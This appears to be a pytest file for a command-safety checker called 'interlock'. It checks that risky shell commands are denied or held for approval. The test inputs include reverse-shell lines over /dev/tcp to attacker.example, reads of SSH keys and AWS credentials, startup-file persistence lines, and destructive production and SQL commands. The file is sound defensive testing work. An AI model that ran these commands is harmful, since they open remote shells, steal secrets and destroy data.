"""Session 13: the lead's own fixes (fail-closed knowledge, true reasons, classes left from session 12)."""

import os

import pytest

from interlock import knowledge
from interlock.engine import check_command
from interlock.knowledge import KnowledgeError


def judge(cmd, home="/home/u", ws="/home/u/proj"):
    return check_command(cmd, cwd=ws, home=home, workspace=ws)


# --- a broken knowledge file never silently means allow -------------------------------------------------
# Readers that can't tell what a broken file would have said answer "no finding"; the engine records every
# broken file met while judging and fails closed on it (interlock.error), whichever reader swallowed it.

@pytest.mark.parametrize("name,cmd", [
    ("capacity.toml", "aws autoscaling update-auto-scaling-group --auto-scaling-group-name g --max-size 0"),
    ("capacity.toml", "az containerapp update -n api -g rg --set-env-vars X=1 --min-replicas 0 --max-replicas 0"),
    ("exposure.toml", "gcloud compute firewall-rules create open --allow tcp:22 --source-ranges 0.0.0.0/0"),
    ("exposure.toml", "aws s3api put-public-access-block --bucket b --public-access-block-configuration "
                      "BlockPublicAcls=false"),
    ("settings.toml", "pip config set global.index-url http://pkgs.example.net/simple"),
    ("settings.toml", "yarn config set registry http://npm.example.net"),
])
def test_broken_knowledge_fails_closed(monkeypatch, name, cmd):
    monkeypatch.setitem(knowledge._MODELS, name, KnowledgeError(f"{name}: line 3: expected '='"))
    d = judge(cmd)
    assert d.decision in ("ask", "deny"), (cmd, d.decision, d.reasons)
    assert any(f.rule == "interlock.error" and name in (f.why or "") + (f.note or "") for f in d.findings), d.reasons


def test_broken_knowledge_not_consulted_does_not_interrupt(monkeypatch):
    monkeypatch.setitem(knowledge._MODELS, "settings.toml", KnowledgeError("settings.toml: broken"))
    assert judge("ls -la src").decision == "allow"


def test_trips_do_not_leak_between_actions(monkeypatch):
    monkeypatch.setitem(knowledge._MODELS, "settings.toml", KnowledgeError("settings.toml: broken"))
    assert judge("npm config set registry http://x.example").decision == "ask"
    monkeypatch.delitem(knowledge._MODELS, "settings.toml")
    assert judge("git status").decision == "allow"
    assert not any(f.rule == "interlock.error" for f in judge("npm config get registry").findings)


# --- a file a program is told to write is a write, wherever it is ---------------------------------------

@pytest.fixture
def home(tmp_path):
    h = tmp_path / "home"
    (h / ".ssh").mkdir(parents=True)
    (h / ".ssh" / "id_ed25519").write_text("-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXk=\n"
                                           "-----END OPENSSH PRIVATE KEY-----\n")
    (h / ".config" / "svc").mkdir(parents=True)
    (h / "proj").mkdir()
    return str(h)


@pytest.mark.parametrize("cmd", [
    "openssl genpkey -algorithm ed25519 -out ~/.ssh/deploy.pem",
    "openssl req -new -newkey rsa:4096 -nodes -keyout ~/.config/svc/tls.key -out ~/.config/svc/tls.csr -subj /CN=a",
    "mkcert --key-file=~/.config/svc/dev-key.pem localhost",
])
def test_new_key_outside_project_is_a_write_not_a_read(home, cmd):
    d = judge(cmd, home=home, ws=home + "/proj")
    assert d.decision == "ask", (cmd, d.reasons)
    assert "secrets.read-file" not in d.rules and "fs.write-outside" in d.rules, d.reasons


def test_key_written_over_authorized_keys_is_a_way_in(home):
    d = judge("openssl genrsa -out ~/.ssh/authorized_keys 2048", home=home, ws=home + "/proj")
    assert d.decision == "deny" and "sys.grant-access" in d.rules, d.reasons


@pytest.mark.parametrize("cmd", [
    "od -o ~/.ssh/id_ed25519",                 # od's -o takes no value: the key is read
    "sort -o ~/.ssh/id_ed25519",
    "openssl pkey -in ~/.ssh/id_ed25519 -out pub.pem",
])
def test_existing_secret_after_an_output_option_is_still_a_read(home, cmd):
    d = judge(cmd, home=home, ws=home + "/proj")
    assert d.decision == "deny", (cmd, d.reasons)


def test_new_key_in_the_project_passes(home):
    assert judge("openssl genrsa -out certs/dev.pem 2048", home=home, ws=home + "/proj").decision == "allow"


# --- find through links: the reason names what it deletes ---------------------------------------------

@pytest.mark.parametrize("cmd", ["find -L /tmp -type f -delete", "find -L /var/tmp -type f -mtime +2 -delete",
                                 "find /tmp -follow -type f -name '*.sock' -delete"])
def test_find_following_links_in_scratch_is_asked_for_the_links_not_called_a_system_delete(cmd):
    d = judge(cmd)
    assert d.decision == "ask", (cmd, d.reasons)
    assert "fs.delete-unresolved" in d.rules and "fs.delete-system" not in d.rules, d.reasons


def test_find_deleting_tmp_itself_is_still_a_system_delete():
    assert judge("find -L /tmp -delete").decision == "deny"


# --- bash's read-write redirect `N<>FILE` --------------------------------------------------------------
# The grammar rejects `<>`; a rejected one is read as `<` (the file is opened, for reading too), and a shell
# whose input or output is a descriptor opened on the network earlier in the line is a shell for the peer.

@pytest.mark.parametrize("cmd", [
    "exec 9<>/dev/tcp/203.0.113.7/8443; bash <&9 >&9 2>&9",
    "exec 4<>/dev/udp/203.0.113.7/53 && sh -i 0<&4 1>&4",
    "exec 6<> /dev/tcp/attacker.example/80 || true; /usr/bin/zsh <&6",
    "exec 200<>/dev/tcp/203.0.113.7/22; while :; do dash <&200 >&200; done",
])
def test_shell_on_a_network_descriptor_is_refused(cmd):
    d = judge(cmd)
    assert d.decision == "deny" and "net.reverse-shell" in d.rules, (cmd, d.reasons)


@pytest.mark.parametrize("cmd", [
    "exec 3<>/dev/tcp/127.0.0.1/6379 && printf 'PING\\r\\n' >&3 && head -c 7 <&3",
    "exec 5<> build/lock; flock 5 && make",
    "psql -c \"select id from jobs where state <> 'done'\"",
    "grep -n '<>' src/ops.py",
    "exec 3>build.log; make >&3 2>&3",
])
def test_ordinary_descriptors_and_the_operator_in_text_pass(cmd):
    d = judge(cmd)
    assert d.decision == "allow", (cmd, d.reasons)


def test_read_write_redirect_of_a_secret_is_a_read():
    d = judge("exec 3<> ~/.aws/credentials; cat <&3")
    assert d.decision == "deny" and "secrets.read-file" in d.rules, d.reasons


# --- an environment named "live" is production, in every reader -----------------------------------------

@pytest.mark.parametrize("cmd,rule", [
    ("serverless deploy --stage live", "infra.deploy"),
    ("sls deploy -s eu-live", "infra.deploy"),
    ("sst deploy --stage live", "infra.deploy"),
    ("helmfile --environment live sync", "infra.deploy"),
    ("kubectl delete svc api -n live", "infra.delete-prod"),
])
def test_live_is_production(cmd, rule):
    d = judge(cmd)
    assert d.decision in ("ask", "deny") and rule in d.rules, (cmd, d.reasons)


@pytest.mark.parametrize("cmd", ["sls deploy --stage qa", "sls deploy -s dev", "serverless deploy",
                                 "sst deploy --stage alive", "kubectl get pods -n live",
                                 "serverless logs -f api --stage live"])
def test_non_production_stages_and_reads_pass(cmd):
    assert judge(cmd).decision == "allow", cmd


def test_unplaceable_stage_is_treated_as_production():
    d = judge("sls deploy --stage $STAGE")
    assert d.decision == "ask" and "infra.deploy" in d.rules, d.reasons


# --- a start-up line that runs a file anyone may rewrite ------------------------------------------------

@pytest.fixture
def rc_home(tmp_path):
    h = tmp_path / "h"
    (h / ".config" / "fish").mkdir(parents=True)
    for f in (".bashrc", ".zshrc", ".profile", ".config/fish/config.fish"):
        (h / f).write_text("# rc\n")
    (h / "w").mkdir()
    return str(h)


@pytest.mark.parametrize("cmd", [
    "echo '. /tmp/.cache-init' >> ~/.bashrc",
    "printf 'source /var/tmp/env.sh\\n' >> ~/.zshrc",
    "echo 'sh /dev/shm/boot' | tee -a ~/.profile",
    "echo 'python3 /tmp/watch.py &' >> ~/.config/fish/config.fish",
    "echo 'perl /tmp/p.pl' >> ~/.bashrc",
])
def test_start_up_line_running_a_world_writable_file_is_asked(rc_home, cmd):
    d = judge(cmd, home=rc_home, ws=rc_home + "/w")
    assert d.decision in ("ask", "deny"), (cmd, d.reasons)
    assert any("anyone may write" in (f.note or "") for f in d.findings), d.reasons


@pytest.mark.parametrize("cmd", [
    "echo '. \"$HOME/.cargo/env\"' >> ~/.profile",
    "echo 'source ~/.bash_aliases' >> ~/.bashrc",
    "echo 'export PATH=\"$HOME/.local/bin:$PATH\"' >> ~/.zshrc",
    "python3 /tmp/scratch.py",
])
def test_ordinary_start_up_lines_and_one_off_runs_pass(rc_home, cmd):
    assert judge(cmd, home=rc_home, ws=rc_home + "/w").decision == "allow", cmd


# --- a leased force-push of a branch that is not protected -------------------------------------------------

@pytest.fixture
def repo(tmp_path):
    import subprocess

    ws = tmp_path / "repo"
    ws.mkdir()
    subprocess.run("git init -q -b main . && git -c user.email=a@b -c user.name=a commit -q --allow-empty -m i && "
                   "git checkout -q -b topic/rebase && git remote add origin https://example.com/r.git",
                   shell=True, cwd=ws, check=True)
    return str(ws)


@pytest.mark.parametrize("cmd", ["git push --force-with-lease origin topic/rebase",
                                 "git push --force-with-lease=topic/rebase origin topic/rebase",
                                 "git push --force-with-lease --force-if-includes", "git push --force-with-lease"])
def test_leased_force_push_off_protected_passes(repo, cmd):
    d = check_command(cmd, cwd=repo, home=os.path.dirname(repo), workspace=repo)
    assert d.decision == "allow", (cmd, d.reasons)


@pytest.mark.parametrize("cmd,want", [
    ("git push --force-with-lease origin main", "deny"), ("git push --force-with-lease origin HEAD:main", "deny"),
    ("git push --force --force-with-lease origin topic/rebase", "ask"),
    ("git push --force-with-lease origin +topic/rebase", "ask"), ("git push -f origin topic/rebase", "ask"),
    ("git push --force-with-lease --all origin", "deny"),  # main is among every branch
])
def test_unleased_or_protected_force_pushes_are_still_caught(repo, cmd, want):
    d = check_command(cmd, cwd=repo, home=os.path.dirname(repo), workspace=repo)
    assert d.decision == want, (cmd, d.reasons)


# --- changes to what production runs, reviewed by no one -------------------------------------------------

@pytest.mark.parametrize("cmd", [
    "kubectl --context production-eu apply -f k8s/",
    "kubectl apply -k deploy/overlays/production -n production",
    "kubectl -n prod set env deploy/web FEATURE_X=1",
    "kubectl replace -f svc.yaml --namespace=production",
    "kubectl -n production run debug --image=busybox -- sleep 3600",
    "kubectl rollout resume deploy/web -n prod",
    "argocd app sync checkout-production --prune=false",
    "nomad job run -namespace prod billing.nomad.hcl",
    "docker compose --file deploy/compose.production.yaml stop",
    "docker-compose -p store_prod kill",
])
def test_production_changes_are_asked(cmd):
    d = judge(cmd)
    assert d.decision in ("ask", "deny"), (cmd, d.reasons)
    assert {"infra.deploy", "infra.outage"} & set(d.rules), d.rules


@pytest.mark.parametrize("cmd", [
    "kubectl apply -f k8s/", "kubectl -n staging set env deploy/web X=1", "kubectl get deploy -n production",
    "kubectl rollout status deploy/web -n production", "kubectl diff -k overlays/production -n production",
    "argocd app sync checkout", "argocd app get checkout-production", "nomad job run billing.nomad.hcl",
    "nomad job plan -namespace prod billing.nomad.hcl", "docker compose -f compose.production.yaml ps",
    "docker compose -f compose.dev.yaml down", "docker compose stop",
])
def test_reads_and_other_environments_pass(cmd):
    assert judge(cmd).decision == "allow", (cmd, judge(cmd).reasons)


# --- destructive SQL handed to a subcommand a knowledge file does not name; expiry put on existing data --------

@pytest.mark.parametrize("cmd", [
    "databricks sql query 'DROP TABLE main.sales.orders'",
    "databricks api post /api/2.0/sql/statements --json "
    "'{\"warehouse_id\": \"w1\", \"statement\": \"TRUNCATE TABLE main.sales.orders\"}'",
    "wrangler d1 shell orders-db 'DELETE FROM orders'",
])
def test_destructive_sql_in_an_unnamed_subcommand_is_judged_as_sql(cmd):
    d = judge(cmd)
    assert d.decision in ("ask", "deny") and any(r.startswith("db.") for r in d.rules), (cmd, d.reasons)


@pytest.mark.parametrize("cmd", [
    "databricks api post /api/2.0/sql/statements --json '{\"statement\": \"SELECT count(*) FROM main.sales.orders\"}'",
    "databricks clusters list", "databricks api get /api/2.0/clusters/list",
])
def test_reads_through_the_same_tools_pass(cmd):
    assert judge(cmd).decision == "allow", (cmd, judge(cmd).reasons)


@pytest.mark.parametrize("cmd,want", [
    ("bq update --expiration 600 acme:analytics.events", "ask"),
    ("gsutil lifecycle set keep-30d.json gs://acme-prod-data", "ask"),
    ("gcloud storage buckets update gs://acme-prod-data --lifecycle-file=rules.json", "ask"),
    ("bq update --expiration 0 acme:analytics.events", "allow"),
    ("bq mk --table --expiration 86400 acme:scratch.t schema.json", "allow"),
    ("gsutil lifecycle get gs://acme-prod-data", "allow"),
])
def test_expiry_on_existing_data_is_asked(cmd, want):
    assert judge(cmd).decision == want, (cmd, judge(cmd).reasons)


@pytest.mark.parametrize("cmd,want", [
    ("chattr -R +i .", "ask"), ("sudo chattr -R +ia src", "ask"), ("chattr -R =i app", "ask"),
    ("chattr -R -i src", "allow"), ("chattr -R +c build", "allow"), ("lsattr -R src", "allow"),
])
def test_workspace_made_unchangeable_is_asked(tmp_path, cmd, want):
    ws = tmp_path / "w"
    for d in ("src", "app", "build"):
        (ws / d).mkdir(parents=True)
    d = judge(cmd, home=str(tmp_path), ws=str(ws))
    assert d.decision == want, (cmd, d.reasons)


# --- an ssh login whose forced command is a platform's CLI -----------------------------------------------

@pytest.mark.parametrize("cmd,want", [
    ("ssh -p 2222 dokku@paas.example.net apps:destroy billing --force", "deny"),
    ("ssh -l dokku paas.example.net postgres:destroy main-db --force", "deny"),
    ("ssh dokku@paas.example.net ps:stop billing", "ask"),
    ("ssh dokku@paas.example.net ps:report billing", "allow"),
    ("ssh ops@paas.example.net apps:destroy", "allow"),   # another login runs a program of that name
])
def test_dokku_over_ssh_is_the_dokku_command(cmd, want):
    d = judge(cmd)
    assert d.decision == want, (cmd, d.reasons)
